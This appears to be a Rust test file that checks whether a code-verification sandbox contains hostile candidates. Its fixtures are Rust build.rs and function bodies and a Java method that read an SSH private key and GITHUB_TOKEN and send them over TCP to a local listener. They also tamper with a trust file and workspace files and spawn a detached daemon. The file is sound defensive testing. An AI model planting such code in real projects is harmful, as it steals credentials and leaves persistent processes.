//! Hostile code in the sandbox, through the real runners: a Rust workspace whose `build.rs` and a
//! candidate's body, and a Java candidate, each try to write the home directory by absolute path,
//! append to the workspace, write the trust file, read the ssh key and send it to a local
//! listener, and leave a daemon behind. Each must fail and leave no trace; the right candidate
//! served after them must still pass. (Python's are in `server/lsp/tests/verify.rs`, through the
//! language server.) CI runs these as root and, in `.ci/test-unprivileged`, as a normal user.

use std::net::TcpListener;
use std::path::{Path, PathBuf};

use codeforge_config::VerifySettings;
use codeforge_syntax::Language;
use codeforge_verify::{VerifyRequest, Workbench};

struct Trap {
    home: PathBuf,
    marker: String,
    listener: TcpListener,
    port: u16,
    trust_before: Option<Vec<u8>>,
}

impl Trap {
    fn new(lang: &str) -> Trap {
        let home = PathBuf::from(std::env::var("HOME").expect("HOME"));
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        Trap {
            trust_before: std::fs::read(home.join(".config/codeforge/trust.json")).ok(),
            marker: format!("codeforge-hostile-{lang}-{}", std::process::id()),
            home,
            listener,
            port,
        }
    }

    fn assert_no_trace(
        &self,
        root: &Path,
        before: &std::collections::BTreeMap<String, Vec<u8>>,
        out: &str,
    ) {
        assert!(
            !self.home.join(&self.marker).exists(),
            "home written by absolute path: {out}"
        );
        assert_eq!(
            std::fs::read(self.home.join(".config/codeforge/trust.json")).ok(),
            self.trust_before,
            "the trust file was written: {out}"
        );
        assert!(
            self.listener.accept().is_err(),
            "a run reached a local listener: {out}"
        );
        assert_eq!(
            &codeforge_testkit::snapshot(root),
            before,
            "the workspace changed: {out}"
        );
        std::thread::sleep(std::time::Duration::from_millis(300));
        let left = codeforge_testkit::processes_with(&self.marker);
        assert!(left.is_empty(), "processes left behind: {left:?}");
    }
}

fn request(
    root: &Path,
    cache: &Path,
    rel: &str,
    lang: Language,
    name: &str,
    class: Option<&str>,
) -> VerifyRequest {
    let settings = VerifySettings {
        maven_settings: std::env::var_os("CODEFORGE_MAVEN_SETTINGS").map(PathBuf::from),
        test_timeout_s: 120,
        ..VerifySettings::default()
    };
    VerifyRequest {
        root: root.to_path_buf(),
        rel_path: rel.into(),
        language: lang,
        name: name.into(),
        class: class.map(str::to_string),
        doc: None,
        cache_dir: cache.to_path_buf(),
        settings,
    }
}

async fn prepare(req: VerifyRequest) -> Workbench {
    tokio::task::spawn_blocking(move || Workbench::prepare(req))
        .await
        .unwrap()
        .expect("prepare")
}

/// Runs the hostile candidate (it must fail and leave no trace), then the right one (it must
/// pass and leave none either); returns the hostile run's report.
async fn hostile_then_right(
    wb: &mut Workbench,
    t: &Trap,
    root: &Path,
    before: &std::collections::BTreeMap<String, Vec<u8>>,
    hostile_source: &str,
    right_source: &str,
) -> codeforge_verify::RunReport {
    let hostile = wb.run(hostile_source).await;
    assert_eq!(hostile.sandbox, "full", "{hostile:?}");
    assert!(hostile.failed > 0, "the wrong body fails: {hostile:?}");
    t.assert_no_trace(root, before, &hostile.output);
    let ok = wb.run(right_source).await;
    assert!(ok.all_passed(), "{ok:?}");
    t.assert_no_trace(root, before, &ok.output);
    hostile
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rust_build_script_and_candidate_cannot_escape() {
    let ws = codeforge_testkit::workspace("verify_rust");
    let t = Trap::new("rs");
    let (h, m, p, root) = (t.home.display(), &t.marker, t.port, ws.root.display());
    // The workspace's own build script runs in the sandbox too.
    let build_rs = format!(
        r#"fn main() {{
    let _ = std::fs::write("{h}/{m}", "x");
    let _ = std::fs::write("{root}/pwned.txt", "pwned");
    let key = std::fs::read("{h}/.ssh/id_ed25519").unwrap_or_default();
    if let Ok(mut s) = std::net::TcpStream::connect("127.0.0.1:{p}") {{
        use std::io::Write;
        let _ = s.write_all(&key);
    }}
    let _ = std::process::Command::new("sh").args(["-c", "setsid sh -c 'sleep 300; echo {m}' >/dev/null 2>&1 &"]).status();
}}
"#
    );
    std::fs::write(ws.root.join("build.rs"), build_rs).unwrap();
    let before = codeforge_testkit::snapshot(&ws.root);
    let original = std::fs::read_to_string(ws.root.join("src/lib.rs")).unwrap();
    let mut wb = prepare(request(
        &ws.root,
        &ws.cache,
        "src/lib.rs",
        Language::Rust,
        "fib",
        None,
    ))
    .await;
    let hostile_body = format!(
        r#"pub fn fib(n: u32) -> u64 {{
    let _ = std::fs::write("{h}/{m}", "x");
    let _ = std::fs::OpenOptions::new().append(true).open("{root}/src/lib.rs").map(|mut f| {{ use std::io::Write; let _ = f.write_all(b"pwned"); }});
    let _ = std::fs::create_dir_all("{h}/.config/codeforge");
    let _ = std::fs::OpenOptions::new().append(true).create(true).open("{h}/.config/codeforge/trust.json").map(|mut f| {{ use std::io::Write; let _ = f.write_all(b"{m}"); }});
    if let Ok(mut s) = std::net::TcpStream::connect("127.0.0.1:{p}") {{
        use std::io::Write;
        let _ = s.write_all(std::env::var("GITHUB_TOKEN").unwrap_or_default().as_bytes());
    }}
    let _ = std::process::Command::new("sh").args(["-c", "setsid sh -c 'sleep 300; echo {m}' >/dev/null 2>&1 &"]).status();
    n as u64
}}"#
    );
    let stub = "pub fn fib(n: u32) -> u64 {\n    todo!()\n}";
    let right = "pub fn fib(n: u32) -> u64 {\n    let (mut a, mut b) = (0u64, 1u64);\n    for _ in 0..n {\n        let t = a + b;\n        a = b;\n        b = t;\n    }\n    a\n}";
    let hostile = hostile_then_right(
        &mut wb,
        &t,
        &ws.root,
        &before,
        &original.replace(stub, &hostile_body),
        &original.replace(stub, right),
    )
    .await;
    assert!(hostile.compiled, "{}", hostile.output);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn java_candidate_cannot_escape() {
    let ws = codeforge_testkit::workspace("verify_java");
    let t = Trap::new("java");
    let (h, m, p, root) = (t.home.display(), &t.marker, t.port, ws.root.display());
    let before = codeforge_testkit::snapshot(&ws.root);
    let rel = "src/main/java/com/acme/Strings.java";
    let original = std::fs::read_to_string(ws.root.join(rel)).unwrap();
    let mut wb = prepare(request(
        &ws.root,
        &ws.cache,
        rel,
        Language::Java,
        "reverse",
        Some("Strings"),
    ))
    .await;
    let stub = "    public static String reverse(String s) {\n        throw new UnsupportedOperationException(\"not yet\");\n    }";
    assert!(original.contains(stub));
    let hostile_body = format!(
        r#"    public static String reverse(String s) {{
        try {{ java.nio.file.Files.writeString(java.nio.file.Path.of("{h}/{m}"), "x"); }} catch (Exception e) {{ }}
        try {{ java.nio.file.Files.writeString(java.nio.file.Path.of("{root}/pom.xml"), "pwned", java.nio.file.StandardOpenOption.APPEND); }} catch (Exception e) {{ }}
        try {{ java.nio.file.Files.createDirectories(java.nio.file.Path.of("{h}/.config/codeforge")); java.nio.file.Files.writeString(java.nio.file.Path.of("{h}/.config/codeforge/trust.json"), "{m}", java.nio.file.StandardOpenOption.CREATE, java.nio.file.StandardOpenOption.APPEND); }} catch (Exception e) {{ }}
        try (java.net.Socket so = new java.net.Socket("127.0.0.1", {p})) {{
            so.getOutputStream().write(java.nio.file.Files.readAllBytes(java.nio.file.Path.of("{h}/.ssh/id_ed25519")));
        }} catch (Exception e) {{ }}
        try {{ new ProcessBuilder("sh", "-c", "setsid sh -c 'sleep 300; echo {m}' >/dev/null 2>&1 &").start().waitFor(); }} catch (Exception e) {{ }}
        return s;
    }}"#
    );
    let right = "    public static String reverse(String s) {\n        return new StringBuilder(s).reverse().toString();\n    }";
    hostile_then_right(
        &mut wb,
        &t,
        &ws.root,
        &before,
        &original.replace(stub, &hostile_body),
        &original.replace(stub, right),
    )
    .await;
}
